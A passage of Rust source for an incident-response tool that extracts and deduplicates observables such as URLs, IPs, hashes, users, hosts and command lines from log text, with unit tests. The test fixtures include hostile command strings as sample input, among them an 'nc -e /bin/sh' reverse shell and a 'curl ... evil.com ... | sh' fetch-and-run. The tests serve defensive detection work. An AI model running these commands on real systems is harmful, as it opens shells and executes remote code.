            out.push(Hit::new(ObservableKind::Process, Some(name.to_ascii_lowercase()), m.start(), m.end()));
        }
    }

    fn domain_users(&mut self, out: &mut Vec<Hit>) {
        for m in DOMAIN_USER.find_iter(self.t) {
            let (s, e) = (m.start(), m.end());
            let domain = m.as_str().split('\\').next().unwrap_or_default();
            if overlaps(&self.windows, s, e)
                || matches!(self.before(s), Some(b'\\' | b':' | b'%'))
                || HIVES.iter().any(|(long, _)| long.eq_ignore_ascii_case(domain))
            {
                continue;
            }
            let raw = m.as_str().trim_end_matches('.');
            out.push(Hit::new(ObservableKind::User, lower(raw), s, s + raw.len()));
            claim(&mut self.windows, s, e);
        }
    }

    fn unix_paths(&mut self, out: &mut Vec<Hit>) {
        let mut cursor = 0;
        for (s, e) in unix_path_spans(self.b, self.slashes) {
            let m = &self.t[s..e];
            let ok_before = match self.before(s) {
                None => true,
                Some(c) => c.is_ascii_whitespace() || b"\"'=([{,:;<>|`".contains(&c),
            };
            if !ok_before {
                continue;
            }
            let raw = m.trim_end_matches(['.', ',', ':']);
            let e = s + raw.len();
            if raw.len() < 3 || overlaps_in_order(&self.claimed, &mut cursor, s, e) {
                continue;
            }
            out.push(Hit::new(ObservableKind::FilePath, None, s, e));
        }
    }

    fn users(&mut self, out: &mut Vec<Hit>) {
        match self.lower {
            Some(lower) => {
                for m in USER_LC.find_iter(lower) {
                    let s = name_start(lower.as_bytes(), (m.start(), m.end()), user_name_byte);
                    self.user(s, m.end(), out);
                }
            }
            None => {
                let names: Vec<(usize, usize)> =
                    USER.captures_iter(self.t).filter_map(|c| c.get(1)).map(|m| (m.start(), m.end())).collect();
                for (s, e) in names {
                    self.user(s, e, out);
                }
            }
        }
    }

    /// A user name captured at `s..e`.
    fn user(&mut self, s: usize, e: usize, out: &mut Vec<Hit>) {
        let raw = self.t[s..e].trim_end_matches(['.', ',', ':', ')', '"']);
        if raw.is_empty() || NOT_USERS.iter().any(|n| n.eq_ignore_ascii_case(raw)) {
            return;
        }
        let e = s + raw.len();
        if overlaps(&self.windows, s, e) {
            return;
        }
        out.push(Hit::new(ObservableKind::User, None, s, e));
    }

    fn hosts(&mut self, out: &mut Vec<Hit>) {
        match self.lower {
            Some(lower) => {
                for m in HOST_LC.find_iter(lower) {
                    let s = name_start(lower.as_bytes(), (m.start(), m.end()), host_name_byte);
                    // The keyword has no `=` or `:`, so the separator has one when the match has.
                    let keyed = lower[m.start()..s].contains(['=', ':']);
                    self.host(keyed, s, m.end(), out);
                }
            }
            None => {
                let names: Vec<(bool, usize, usize)> = HOST
                    .captures_iter(self.t)
                    .filter_map(|c| Some((c.get(1)?.as_str().contains(['=', ':']), c.get(2)?)))
                    .map(|(keyed, m)| (keyed, m.start(), m.end()))
                    .collect();
                for (keyed, s, e) in names {
                    self.host(keyed, s, e, out);
                }
            }
        }
    }

    /// A host name captured at `s..e`, after a `host=` key (`keyed`) or a bare `host` word.
    fn host(&mut self, keyed: bool, s: usize, e: usize, out: &mut Vec<Hit>) {
        let raw = self.t[s..e].trim_end_matches(['.', '-', '_']);
        // After a bare `host` word, only a name that looks like one (`bastion-01`, `WS042`).
        let looks_like_name = raw.bytes().any(|c| c.is_ascii_digit() || c == b'-' || c == b'.');
        if raw.is_empty() || !(keyed || looks_like_name) || raw.parse::<std::net::IpAddr>().is_ok() {
            return;
        }
        out.push(Hit::new(ObservableKind::Host, lower(raw), s, s + raw.len()));
    }

    fn command_lines(&mut self, out: &mut Vec<Hit>) {
        let (key, tool, hay) = match self.lower {
            Some(lower) => (&*COMMAND_KEY_LC, &*COMMAND_TOOL_LC, lower),
            None => (&*COMMAND_KEY, &*COMMAND_TOOL, self.t),
        };
        for caps in key.captures_iter(hay) {
            let Some(m) = caps.get(1) else { continue };
            // The extent is read from the text as written: its `Key=` test is case-sensitive.
            let (rel_s, rel_e) = command_extent(&self.t[m.start()..m.end()], true);
            let (s, e) = (m.start() + rel_s, m.start() + rel_e);
            if e > s {
                out.push(Hit::new(ObservableKind::CommandLine, None, s, e));
                claim(&mut self.commands, s, e);
            }
        }
        for m in tool.find_iter(hay) {
            if overlaps(&self.commands, m.start(), m.end()) {
                continue;
            }
            let (rel_s, rel_e) = command_extent(&self.t[m.start()..m.end()], false);
            let (s, e) = (m.start() + rel_s, m.start() + rel_e);
            if e > s {
                out.push(Hit::new(ObservableKind::CommandLine, None, s, e));
            }
        }
    }
}

/// The schemes of [`URL`].
const URL_SCHEMES: [&str; 11] = ["https", "http", "ftps", "ftp", "sftp", "wss", "ws", "smb", "file", "tcp", "udp"];

/// Where a match of [`URL`] whose `://` is at `k` starts (at `lo` or later): a scheme right before
/// `k` at a word boundary, the leftmost one first. Exact while the text holds no `ſ`.
fn url_start(b: &[u8], k: usize, lo: usize) -> Option<usize> {
    (2..=5).rev().filter_map(|len| k.checked_sub(len)).filter(|&s| s >= lo).find(|&s| {
        let scheme = &b[s..k];
        let boundary = s == 0 || !(b[s - 1].is_ascii_alphanumeric() || b[s - 1] == b'_');
        boundary && URL_SCHEMES.iter().any(|x| x.as_bytes().eq_ignore_ascii_case(scheme))
    })
}

/// The end of the body of a [`URL`] match that starts at `from`: the first whitespace, quote,
/// angle or curly bracket, backtick, `|`, `\\`, `^`, `[` or `]`.
fn url_body_end(t: &str, from: usize) -> usize {
    const STOP: [bool; 128] = {
        let mut stop = [false; 128];
        let mut c = 0;
        while c < 128 {
            stop[c] = (c as u8 as char).is_whitespace()
                || matches!(
                    c as u8,
                    b'"' | b'\'' | b'<' | b'>' | b'`' | b'{' | b'}' | b'|' | b'\\' | b'^' | b'[' | b']'
                );
            c += 1;
        }
        stop
    };
    let b = t.as_bytes();
    let mut i = from;
    while let Some(&c) = b.get(i) {
        if c.is_ascii() {
            if STOP[usize::from(c)] {
                return i;
            }
            i += 1;
        } else {
            // Other whitespace (no-break space, ideographic space, ...) ends a URL too.
            let Some(ch) = t.get(i..).and_then(|r| r.chars().next()) else { return i };
            if ch.is_whitespace() {
                return i;
            }
            i += ch.len_utf8();
        }
    }
    t.len()
}

/// The bytes of a path segment in `UNIX_PATH`.
fn unix_path_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'+' | b'@' | b'%' | b'~' | b'-')
}

/// The matches of `UNIX_PATH` in `b`, by hand from the offsets of its `/`: a match is a `/`, a
/// segment of at least one byte, then as many `/segment` (possibly empty) as follow. Exactly what
/// the regex finds: a segment ends at the first byte outside its class, which is where the regex
/// needs its `/`, and the next search starts at the next `/` after a failure or a match.
fn unix_path_spans<'b>(b: &'b [u8], slashes: &'b [usize]) -> impl Iterator<Item = (usize, usize)> + 'b {
    let mut from = 0;
    slashes.iter().filter_map(move |&s| {
        if s < from || !b.get(s + 1).is_some_and(|&c| unix_path_byte(c)) {
            return None;
        }
        let mut e = s + 1;
        while e < b.len() && unix_path_byte(b[e]) {
            e += 1;
        }
        if b.get(e) != Some(&b'/') {
            return None;
        }
        while b.get(e) == Some(&b'/') {
            e += 1;
            while e < b.len() && unix_path_byte(b[e]) {
                e += 1;
            }
        }
        from = e;
        Some((s, e))
    })
}

/// Where a command line in `text` starts and ends: inside quotes when it is quoted, otherwise up
/// to the next `Key=` field of a key-value log (`keyed`), or the end of the sentence in prose.
fn command_extent(text: &str, keyed: bool) -> (usize, usize) {
    let bytes = text.as_bytes();
    if let Some(&q) = bytes.first().filter(|&&c| c == b'"' || c == b'\'') {
        let end = bytes[1..].iter().position(|&c| c == q).map_or(bytes.len(), |p| p + 1);
        return (1, end);
    }
    let mut end = text.len();
    static NEXT_FIELD: LazyLock<Regex> = LazyLock::new(|| re(r"\s+[A-Z][A-Za-z]+=|\s;\s|\s\|\s"));
    static PROSE_END: LazyLock<Regex> = LazyLock::new(|| re(r"\s+(?:and|then|which|from host)\s|\.\s|,\s"));
    if keyed {
        if let Some(m) = NEXT_FIELD.find(text) {
            end = m.start();
        }
    }
    if let Some(m) = PROSE_END.find(&text[..end]) {
        if !keyed {
            end = m.start();
        }
    }
    let trimmed = text[..end].trim_end_matches(['.', ',', ' ', '"', '\'', '`']);
    (0, trimmed.len())
}

/// FNV-1a: the set hashes millions of short values, where SipHash's DoS resistance buys nothing
/// (the input decides the values but a collision only costs time within the bounded batch).
#[derive(Default)]
pub(crate) struct Fnv(u64);

impl std::hash::Hasher for Fnv {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, bytes: &[u8]) {
        let mut h = if self.0 == 0 { 0xcbf2_9ce4_8422_2325 } else { self.0 };
        for &c in bytes {
            h = (h ^ u64::from(c)).wrapping_mul(0x0100_0000_01b3);
        }
        self.0 = h;
    }
}

type FastMap<V> = HashMap<String, V, std::hash::BuildHasherDefault<Fnv>>;

/// A 64-bit hash of `(kind, value)`, eight bytes at a time (FNV's byte loop is slow on URLs). The
/// seed is random per set, so values crafted to collide are not known in advance; a collision
/// costs a comparison, never a wrong answer. Never 0, which marks an empty [`Slot`].
fn value_hash(seed: u64, kind: ObservableKind, value: &str) -> u64 {
    const K: u64 = 0x9e37_79b9_7f4a_7c15;
    let mix = |a: u64, b: u64| {
        let r = u128::from(a) * u128::from(b);
        (r as u64) ^ ((r >> 64) as u64)
    };
    let mut h = mix(seed ^ kind as u64, K);
    let mut words = value.as_bytes().chunks_exact(8);
    for w in &mut words {
        let mut word = [0u8; 8];
        word.copy_from_slice(w);
        h = mix(h ^ u64::from_le_bytes(word), K);
    }
    let mut tail = [0u8; 8];
    tail[..words.remainder().len()].copy_from_slice(words.remainder());
    mix(h ^ u64::from_le_bytes(tail), K ^ value.len() as u64).max(1)
}

/// Values up to this length are kept in their [`Slot`].
const INLINE: usize = 18;

/// One known `(kind, value)` of an [`Index`]: 32 bytes, half a cache line. Short values (addresses,
/// host and user names: the values that repeat) are compared in the slot itself, without reading
/// the observable or its string, which in a large incident are far apart in memory.
#[derive(Debug, Clone, Copy, Default)]
struct Slot {
    /// [`value_hash`]; 0 for an empty slot.
    hash: u64,
    /// The observable's index in [`ObservableSet::list`].
    observable: u32,
    kind: u8,
    /// The value's length when it is inline, otherwise `INLINE + 1`.
    len: u8,
    inline: [u8; INLINE],
}

/// Where each `(kind, value)` is in the list: an open-addressing table (linear probing, at most
/// 7/8 full) of [`Slot`]s, so a lookup usually reads one cache line and no key is copied.
#[derive(Debug, Default)]
struct Index {
    slots: Vec<Slot>,
    used: usize,
}

impl Index {
    /// The observable with this kind and value, or `None` after recording it as `new` (its index
    /// in `list`, where it is about to be pushed).
    fn find_or_insert(
        &mut self,
        hash: u64,
        kind: ObservableKind,
        value: &str,
        new: usize,
        list: &[Observable],
    ) -> Option<usize> {
        if (self.used + 1) * 8 > self.slots.len() * 7 {
            self.grow();
        }
        let mask = self.slots.len() - 1;
        let mut i = hash as usize & mask;
        loop {
            let slot = &self.slots[i];
            if slot.hash == 0 {
                break;
            }
            if slot.hash == hash && slot.kind == kind as u8 {
                let observable = slot.observable as usize;
                let same = if usize::from(slot.len) <= INLINE {
                    slot.inline.get(..value.len()) == Some(value.as_bytes()) && usize::from(slot.len) == value.len()
                } else {
                    value.len() > INLINE && list.get(observable).is_some_and(|o| o.value == value)
                };
                if same {
                    return Some(observable);
                }
            }
            i = (i + 1) & mask;
        }
        // More than 4 billion distinct values would need hundreds of gigabytes first; past that,
        // values are still listed, only no longer deduplicated.
        let Ok(observable) = u32::try_from(new) else { return None };
        let mut slot = Slot { hash, observable, kind: kind as u8, len: INLINE as u8 + 1, inline: [0; INLINE] };
        if value.len() <= INLINE {
            slot.len = value.len() as u8;
            slot.inline[..value.len()].copy_from_slice(value.as_bytes());
        }
        self.slots[i] = slot;
        self.used += 1;
        None
    }

    fn grow(&mut self) {
        let size = (self.slots.len() * 2).max(1024);
        let old = std::mem::replace(&mut self.slots, vec![Slot::default(); size]);
        let mask = size - 1;
        for slot in old.into_iter().filter(|s| s.hash != 0) {
            let mut i = slot.hash as usize & mask;
            while self.slots[i].hash != 0 {
                i = (i + 1) & mask;
            }
            self.slots[i] = slot;
        }
    }
}

/// Text waiting in a batch: where it lies in the batch, and where it came from.
#[derive(Debug, Clone, Copy)]
struct Segment {
    start: usize,
    end: usize,
    /// Offset of the segment in its field's text (spans are reported relative to the field).
    base: usize,
    event: Option<usize>,
    field: usize,
    /// `Some`: the whole text is an observable of this kind (a typed field), not scanned (except
    /// command lines, which are also scanned for the paths and addresses in them).
    typed: Option<ObservableKind>,
}

/// What separates the texts of a batch, so that no match runs from one into the next (which would
/// make a text's observables depend on its neighbours). Every pattern that can cross a line break
/// does so through `\s`, and then needs a word, `=`, `:` or a second word after whitespace: the
/// NULs give it none. The patterns that stop at a line break stop at the first one.
const SEPARATOR: &str = "\n\0\n\0\n";

/// Bytes of text collected before a scan: large enough that the per-search cost of the regexes
/// vanishes, small enough to stay in cache.
const BATCH_BYTES: usize = 256 * 1024;

/// Observables of a whole incident, deduplicated by `(kind, value)` in input order; every
/// occurrence is counted and the first `max_occurrences` positions are kept.
///
/// Texts are not scanned one by one: [`scan`](Self::scan) appends them to a batch (separated by
/// [`SEPARATOR`]) that is scanned in one go when it is full, and matches are mapped back to their
/// text. A log line is ~150 bytes; a dozen searches per line would cost more in setup than in
/// scanning. A text's observables are the same whatever is batched with it, as [`extract`] finds
/// them in the text alone.
pub struct ObservableSet {
    index: Index,
    seed: u64,
    list: Vec<Observable>,
    /// How often each observable of `list` occurred so far (its `count` is set at the end).
    counts: Vec<usize>,
    /// Later occurrences to keep, with the index of their observable, in input order. They are
    /// filed at the end: a repeated value then costs a look in the index and this append, not a
    /// visit to its observable, which in a large incident is rarely in cache.
    pending: Vec<(usize, Occurrence)>,
    max_occurrences: usize,
    batch: String,
    buffers: ScanBuffers,
    segments: Vec<Segment>,
    fields: Vec<String>,
    field_ids: FastMap<usize>,
    /// The field of the last text queued: most texts come from the same field as the one before.
    last_field: usize,
    hits: Vec<Hit>,
}

impl std::fmt::Debug for ObservableSet {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ObservableSet").field("observables", &self.list.len()).finish_non_exhaustive()
    }
}

impl ObservableSet {
    pub fn new(max_occurrences: usize) -> Self {
        use std::hash::BuildHasher;
        ObservableSet {
            index: Index::default(),
            seed: std::hash::RandomState::new().hash_one(0x5eed_u64),
            list: Vec::new(),
            counts: Vec::new(),
            pending: Vec::new(),
            max_occurrences: max_occurrences.max(1),
            batch: String::new(),
            buffers: ScanBuffers::default(),
            segments: Vec::new(),
            fields: Vec::new(),
            field_ids: FastMap::default(),
            last_field: 0,
            hits: Vec::new(),
        }
    }

    /// Queues `text` (found in `field` of event `event`) for extraction.
    pub fn scan(&mut self, text: &str, field: &str, event: Option<usize>) {
        self.push(text, 0, field, event, None);
    }

    /// Queues a value known to be of `kind`: `text` is its raw form, found at `span` of `field`.
    pub fn typed(&mut self, kind: ObservableKind, text: &str, span_start: usize, field: &str, event: Option<usize>) {
        self.push(text, span_start, field, event, Some(kind));
    }

    fn push(&mut self, text: &str, base: usize, field: &str, event: Option<usize>, typed: Option<ObservableKind>) {
        if text.is_empty() {
            return;
        }
        let field = match self.fields.get(self.last_field) {
            Some(last) if last == field => self.last_field,
            _ => match self.field_ids.get(field) {
                Some(&id) => id,
                None => {
                    self.fields.push(field.to_owned());
                    self.field_ids.insert(field.to_owned(), self.fields.len() - 1);
                    self.fields.len() - 1
                }
            },
        };
        self.last_field = field;
        let start = self.batch.len();
        self.batch.push_str(text);
        self.segments.push(Segment { start, end: self.batch.len(), base, event, field, typed });
        self.batch.push_str(SEPARATOR);
        if self.batch.len() >= BATCH_BYTES {
            self.flush();
        }
    }

    /// Scans the batch and adds every occurrence, in input order.
    fn flush(&mut self) {
        if self.segments.is_empty() {
            return;
        }
        let batch = std::mem::take(&mut self.batch);
        let segments = std::mem::take(&mut self.segments);
        let mut hits = std::mem::take(&mut self.hits);
        hits_of(&batch, &mut hits, &mut self.buffers);
        let mut next = 0;
        for seg in &segments {
            let text = &batch[seg.start..seg.end];
            if let Some(kind) = seg.typed {
                let raw = text.trim();
                let lead = text.len() - text.trim_start().len();
                let value = match kind {
                    ObservableKind::Host => lower(raw),
                    ObservableKind::User if raw.contains('\\') => lower(raw),
                    _ => None,
                };
                let s = seg.base + lead;
                if !raw.is_empty() && raw != "-" {
                    self.add(kind, value.as_deref().unwrap_or(raw), raw, (s, s + raw.len()), seg.field, seg.event);
                }
            }
            // Hits are sorted by start; those before this segment were in an earlier one or in a
            // separator.
            while next < hits.len() && hits[next].start < seg.start {
                next += 1;
            }
            while next < hits.len() && hits[next].start < seg.end {
                let h = &hits[next];
                next += 1;
                let scanned = matches!(seg.typed, None | Some(ObservableKind::CommandLine));
                if !scanned || h.end > seg.end {
                    continue;
                }
                let raw = &batch[h.start..h.end];
                let span = (h.start - seg.start + seg.base, h.end - seg.start + seg.base);
                self.add(h.kind, h.value.as_deref().unwrap_or(raw), raw, span, seg.field, seg.event);
            }
        }
        hits.clear();
        self.hits = hits;
        // Keep the allocations for the next batch.
        let mut batch = batch;
        batch.clear();
        self.batch = batch;
        let mut segments = segments;
        segments.clear();
        self.segments = segments;
    }

    /// Adds one occurrence of a normalized value.
    fn add(
        &mut self,
        kind: ObservableKind,
        value: &str,
        raw: &str,
        span: (usize, usize),
        field: usize,
        event: Option<usize>,
    ) {
        if value.is_empty() {
            return;
        }
        let hash = value_hash(self.seed, kind, value);
        let new = self.list.len();
        if let Some(i) = self.index.find_or_insert(hash, kind, value, new, &self.list) {
            let Some(count) = self.counts.get_mut(i) else { return };
            // The first occurrence is the observable's own; `max_occurrences` counts it too.
            if *count < self.max_occurrences {
                let field = self.fields.get(field).cloned().unwrap_or_default();
                self.pending.push((i, Occurrence { raw: raw.to_owned(), event, field, span }));
            }
            *count += 1;
            return;
        }
        self.counts.push(1);
        self.list.push(Observable {
            kind,
            value: value.to_owned(),
            raw: raw.to_owned(),
            event,
            field: self.fields.get(field).cloned().unwrap_or_default(),
            span,
            count: 1,
            elsewhere: Vec::new(),
        });
    }

    /// The observables so far (scans what is queued first).
    pub fn into_vec(mut self) -> Vec<Observable> {
        self.flush();
        for (o, &count) in self.list.iter_mut().zip(&self.counts) {
            o.count = count;
            o.elsewhere.reserve_exact(count.min(self.max_occurrences) - 1);
        }
        for (i, occurrence) in self.pending {
            if let Some(o) = self.list.get_mut(i) {
                o.elsewhere.push(occurrence);
            }
        }
        self.list
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ObservableKind::*;

    fn values(text: &str, kind: ObservableKind) -> Vec<String> {
        extract(text).into_iter().filter(|f| f.kind == kind).map(|f| f.value).collect()
    }

    fn raw_of(text: &str, kind: ObservableKind) -> Vec<String> {
        extract(text).into_iter().filter(|f| f.kind == kind).map(|f| text[f.start..f.end].to_owned()).collect()
    }

    #[test]
    fn patterns_compile() {
        for r in [
            &DEFANG,
            &URL,
            &EMAIL,
            &IPV6,
            &CVE,
            &REGISTRY,
            &WINDOWS_PATH,
            &UNIX_PATH,
            &DOMAIN_USER,
            &USER,
            &HOST,
            &COMMAND_KEY,
            &COMMAND_TOOL,
        ] {
            LazyLock::force(r);
        }
    }

    #[test]
    fn defanged_url_and_domain_keep_raw_spans() {
        let text = "beacon to hxxps://evil[.]com/a then 1.2.3[.]4";
        assert_eq!(values(text, Url), ["https://evil.com/a"]);
        assert_eq!(raw_of(text, Url), ["hxxps://evil[.]com/a"]);
        assert_eq!(values(text, Domain), ["evil.com"]);
        assert_eq!(raw_of(text, Domain), ["evil[.]com"]);
        assert_eq!(values(text, Ipv4), ["1.2.3.4"]);
        assert_eq!(raw_of(text, Ipv4), ["1.2.3[.]4"]);
        assert_eq!(values("mail bob[@]corp[.]example[.]org", Email), ["bob@corp.example.org"]);
        // Defanged names are domains whatever the top-level label.
        assert_eq!(values("c2 at update-check[.]zzzz", Domain), ["update-check.zzzz"]);
    }

    #[test]
    fn no_false_domains() {
        for text in ["opened report.pdf", "version 1.2.3 released", "ran svc_upd.exe", "README_RESTORE.txt", "x.sh"] {
            assert!(values(text, Domain).is_empty(), "{text}: {:?}", values(text, Domain));
        }
        assert!(values("version 1.2.3.4.5", Ipv4).is_empty());
        assert_eq!(values("see Evil.Example.COM.", Domain), ["evil.example.com"]);
    }

    #[test]
    fn ipv6_forms() {
        assert_eq!(values("from 2001:db8::1 port 22", Ipv6), ["2001:db8::1"]);
        assert_eq!(values("src=2001:0DB8:0000:0000:0000:0000:0000:0001", Ipv6), ["2001:db8::1"]);
        assert_eq!(values("lo ::1, link fe80::a:b:", Ipv6), ["::1", "fe80::a:b"]);
        assert_eq!(values("mapped ::ffff:192.0.2.1", Ipv6), ["::ffff:192.0.2.1"]);
        assert!(values("at 04:11:09 and mac 00:1a:2b:3c:4d:5e", Ipv6).is_empty());
    }

    #[test]
    fn hashes_are_whole_runs() {
        let md5 = "d41d8cd98f00b204e9800998ecf8427e";
        let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
        let sha256 = "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855";
        let text = format!("md5={md5} sha1:{sha1} ({sha256})");
        assert_eq!(values(&text, Md5), [md5]);
        assert_eq!(values(&text, Sha1), [sha1]);
        assert_eq!(values(&text, Sha256), [sha256.to_ascii_lowercase()]);
        let blob = format!("{md5}{md5}ab");
        assert!(extract(&blob).iter().all(|f| !matches!(f.kind, Md5 | Sha1 | Sha256)));
        assert!(values(&format!("x{md5}"), Md5).is_empty());
    }

    #[test]
    fn process_ids_after_their_words() {
        let text = "kworkerds (PID 21877) and pid=44810, ProcessId: 7720, process id 9921; apid 5 and PID x";
        assert_eq!(values(text, Pid), ["21877", "44810", "7720", "9921"]);
        assert!(values("rapid 12 and pidgin 4, ppid 88, parent process id 884", Pid).is_empty());
    }

    #[test]
    fn executables_are_processes_by_image_name() {
        let text = r"ran C:\Users\Public\WinUpd.exe, then mshta.exe http://x; notes.exe.txt x.exe-y";
        assert_eq!(values(text, Process), ["winupd", "mshta"]);
        // The path is still a path.
        assert_eq!(values(text, FilePath), [r"c:\users\public\winupd.exe"]);
        assert!(values("no executable here: setup.exe.bak .exe", Process).is_empty());
    }

    #[test]
    fn windows_paths_registry_and_domain_users() {
        let text = r"C:\Program Files\Evil Co\bad.exe was run by CORP\alice and set HKLM\Software\Microsoft\Windows\CurrentVersion\Run\upd";
        assert_eq!(values(text, FilePath), [r"c:\program files\evil co\bad.exe"]);
        assert_eq!(values(text, User), [r"corp\alice"]);
        assert_eq!(values(text, RegistryKey), [r"HKLM\software\microsoft\windows\currentversion\run\upd"]);
        let long = r#"key "HKEY_CURRENT_USER\Software\Classes\ms-settings\shell\open\command""#;
        assert_eq!(values(long, RegistryKey), [r"HKCU\software\classes\ms-settings\shell\open\command"]);
        assert_eq!(values(r"copied %APPDATA%\x.dll and \\fs01\share\a b\c.txt", FilePath).len(), 2);
    }

    #[test]
    fn unix_paths_not_dates_or_switches() {
        let text = "deploy listed /etc/sudoers.d. at 10/Oct/2000 via HTTP/1.1, cmd /c dir, TTY=pts/0";
        assert_eq!(values(text, FilePath), ["/etc/sudoers.d"]);
        assert!(values("GET https://x.example.com/a/b", FilePath).is_empty());
    }

    #[test]
    fn cve_email_users_hosts_commands() {
        assert_eq!(values("exploits cve-2024-12345.", Cve), ["CVE-2024-12345"]);
        assert_eq!(values("From: Bob.Smith@Example.com", Email), ["bob.smith@example.com"]);
        let sshd = "Failed password for invalid user admin from 203.0.113.45 port 22 ssh2";
        assert_eq!(values(sshd, User), ["admin"]);
        assert_eq!(values(sshd, Ipv4), ["203.0.113.45"]);
        assert_eq!(values("Accepted password for deploy from 10.0.0.1", User), ["deploy"]);
        let sudo = "sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/id -u";
        assert_eq!(values(sudo, User), ["deploy", "root"]);
        assert_eq!(values(sudo, CommandLine), ["/usr/bin/id -u"]);
        assert_eq!(values("seen on host WS-042 today", Host), ["ws-042"]);
        assert!(values("the host is down", Host).is_empty());
        let ps = "CommandLine=powershell.exe -nop -enc SQBFAFgA ParentImage=C:\\Windows\\explorer.exe";
        assert_eq!(values(ps, CommandLine), ["powershell.exe -nop -enc SQBFAFgA"]);
        assert_eq!(values("then ran cmd.exe /c whoami and left", CommandLine), ["cmd.exe /c whoami"]);
    }

    #[test]
    fn set_dedupes_and_keeps_positions() {
        let mut set = ObservableSet::new(2);
        set.scan("a 10.0.0.1 b 10.0.0.1", "raw", Some(0));
        set.scan("c 10.0.0.1", "raw", Some(1));
        let list = set.into_vec();
        assert_eq!(list.len(), 1);
        assert_eq!((list[0].count, list[0].span, list[0].elsewhere.len()), (3, (2, 10), 1));
        assert_eq!(list[0].elsewhere[0].span, (13, 21));
    }

    #[test]
    fn hostile_text_does_not_panic() {
        for text in ["[.]", "hxxp", "::", "\\\\", "C:\\", "http://", "é[.]ü hxxp://ü[.]é/ä", "\u{0}\u{ffff}"] {
            let _ = extract(text);
        }
        let long = "a".repeat(100_000) + "[.]com";
        let _ = extract(&long);
    }

    #[test]
    fn batched_texts_do_not_run_into_each_other() {
        // A pattern that crossed from one text into the next took the next text's first word
        // for a user or host name, or swallowed a key the next text really had.
        let mut set = ObservableSet::new(10);
        set.scan("Failed password for", "raw", Some(0));
        set.scan("admin logged in", "raw", Some(1));
        set.scan("connection from host", "raw", Some(2));
        set.scan("hostname=web-01", "raw", Some(3));
        set.scan("cmd:", "raw", Some(4));
        set.scan("whoami", "raw", Some(5));
        set.scan("Failed x", "raw", Some(6));
        set.scan("for root", "raw", Some(7));
        let list = set.into_vec();
        let found: Vec<(ObservableKind, &str, Option<usize>)> =
            list.iter().map(|o| (o.kind, o.value.as_str(), o.event)).collect();
        assert_eq!(found, [(Host, "web-01", Some(3))]);
    }

    #[test]
    fn a_batch_finds_in_each_text_what_extract_finds_in_it_alone() {
        let texts = random_texts(6000);
        let mut set = ObservableSet::new(usize::MAX);
        for (i, text) in texts.iter().enumerate() {
            set.scan(text, "raw", Some(i));
        }
        let mut batched: Vec<(usize, ObservableKind, String, (usize, usize))> = Vec::new();
        for o in set.into_vec() {
            batched.push((o.event.unwrap_or_default(), o.kind, o.value.clone(), o.span));
            for e in &o.elsewhere {
                batched.push((e.event.unwrap_or_default(), o.kind, o.value.clone(), e.span));
            }
        }
        let mut alone: Vec<(usize, ObservableKind, String, (usize, usize))> = Vec::new();
        for (i, text) in texts.iter().enumerate() {
            alone.extend(extract(text).into_iter().map(|f| (i, f.kind, f.value, (f.start, f.end))));
        }
        batched.sort();
        alone.sort();
        assert_eq!(batched.len(), alone.len());
        for (b, a) in batched.iter().zip(&alone) {
            assert_eq!(b, a, "{:?}", texts[a.0]);
        }
    }

    #[test]
    fn ipv6_with_an_ipv4_tail_and_commands_without_spaces_alone() {
        // Found in a text alone too, not only when the batch had enough colons or spaces.
        assert_eq!(values("1:2:3:4:5:6:1.2.3.4", Ipv6), ["1:2:3:4:5:6:102:304"]);
        assert_eq!(values("cmd\t/c\tdir", CommandLine), ["cmd\t/c\tdir"]);
    }

    /// Texts made of pieces that exercise every scanner, with edge cases around them.
    fn random_texts(count: usize) -> Vec<String> {
        #[rustfmt::skip]
        const PIECES: &[&str] = &[
            "203.0.113.45", "1.2.3[.]4", "::1", "fe80::a:b:", "2001:0DB8:0:0:0:0:0:1", "::ffff:192.0.2.1",
            "1:2:3:4:5:6:1.2.3.4", "04:11:09", "a:b:c:d:e:f:1:2", "a::b::c", "evil.com", "Evil.Example.COM.",
            "hxxps://evil[.]com/a", "http://x.example.com/a/b?c=d#e", "HtTpS://X.Example.com/Y", "xhttps://a.com",
            "_http://a.b", "http://a.com/http://b.com", "ws://a", "wss://b.c/d", "sftp://e.f", "FILE://x.y",
            "udp://1.2.3.4:53", "http://", "http://\u{a0}x", "http://a.com/\u{3000}y", "(see http://a.example.com/x)",
            "bob@example.com", "d41d8cd98f00b204e9800998ecf8427e", "DA39A3EE5E6B4B0D3255BFEF95601890AFD80709",
            "0123456789abcdef0123456789abcdef0", "_0123456789abcdef0123456789abcdef", "abcdefabcdefabcdefabcdefabcdefab",
            "/etc/shadow", "//x/y", "/a//b", "a/b/c", "/a/", "/é/x", "10/Oct/2000", "HTTP/1.1", "/~u/+x@y%z",
            "C:\\Program Files\\Evil Co\\bad.exe", "HKLM\\Software\\Run", "CORP\\alice",
            "Failed password for invalid user admin", "Accepted publickey for deploy", "for user bob", "sudo:   root :",
            "USER=root", "user:\u{3000}bob", "USER =  \"Eve\"", "account_name=svc$", "uid=0", "user -", "Failed",
            "for", "user", "host WS-042", "hostname=web01", "HOST\u{a0}srv-9", "Computer: DC01", "host", "the host is down",
            "CommandLine=powershell.exe -nop -enc SQBFAFgA ParentImage=C:\\x.exe", "COMMAND=/usr/bin/id -u",
            "Cmd : ipconfig /all", "cmd.exe /c whoami and left", "PowerShell.EXE -enc AAA", "NC -e /bin/sh 1.2.3.4",
            "curl -s http://evil.com/x.sh | sh", "cmd", "CVE-2021-44228.", "ſudo: x", "uſer=bob", "K host=web-1",
            "[dot]", "é", "日本", " ", " ", " ", ", ", "=", ":", "\t", "\n", "\"", "'", "(", ")", ".", "/", "-", "_", "x",
        ];
        let mut state = 0x2545_f491_4f6c_dd1d_u64;
        let mut next = move |n: usize| {
            state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            (state >> 33) as usize % n
        };
        (0..count)
            .map(|_| {
                let pieces = 1 + next(12);
                (0..pieces).map(|_| PIECES[next(PIECES.len())]).collect::<String>()
            })
            .collect()
    }

    fn run_scan(text: &str, case_sensitive_twins: bool) -> Vec<Hit> {
        let mut buffers = ScanBuffers::default();
        let mut scan = Scan::new(text, None, &mut buffers);
